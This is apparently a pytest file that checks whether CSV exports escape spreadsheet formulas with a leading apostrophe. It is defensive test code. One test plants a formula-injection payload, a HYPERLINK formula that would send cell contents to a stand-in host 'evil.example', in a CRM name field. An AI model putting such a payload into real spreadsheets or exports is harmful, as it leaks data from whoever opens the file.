"""Exports that a spreadsheet opens compute nothing."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import pytest
from given_shop import given

from tessera.doors import csvtext
from tessera.doors.cli import main
from tessera.doors.drill.corpus import CELLS


@pytest.mark.parametrize("cell", CELLS)
def test_what_a_spreadsheet_would_compute_begins_with_an_apostrophe(cell: str) -> None:
    assert csvtext.safe(cell) == "'" + cell


@pytest.mark.parametrize("value", ["Ann", "+41791234567", "-3.5", "1e9", "", "a=b", "mail@example.org", 5, -5, None])
def test_what_computes_nothing_stays_as_it_is(value: Any) -> None:
    assert csvtext.cell(value) == value


def test_an_export_of_a_name_that_is_a_formula_is_harmless(tmp_path: Path, capsys: Any) -> None:
    root = given(tmp_path / "acme")
    people = root / "files" / "crm.csv"
    people.write_text(people.read_text().replace("Ann Ash", '"=HYPERLINK(""http://evil.example/?""&A1)"'), "utf-8")
    assert main(["-w", str(root), "turn", "-q"]) == 0
    out = tmp_path / "out.csv"
    question = 'SELECT name, email AS "=1+1", -1 AS n FROM profiles ORDER BY person_id'
    words = ["sql", question, "--role", "service", "--purpose", "operate"]
    assert main(["-w", str(root), *words, "--format", "csv", "-o", str(out), "-q"]) == 0
    rows = list(csv.reader(out.open()))
    assert rows[0][1] == "'=1+1" and rows[1][2] == "-1"
    assert next(r[0] for r in rows[1:] if "HYPERLINK" in r[0]).startswith("'=HYPERLINK")
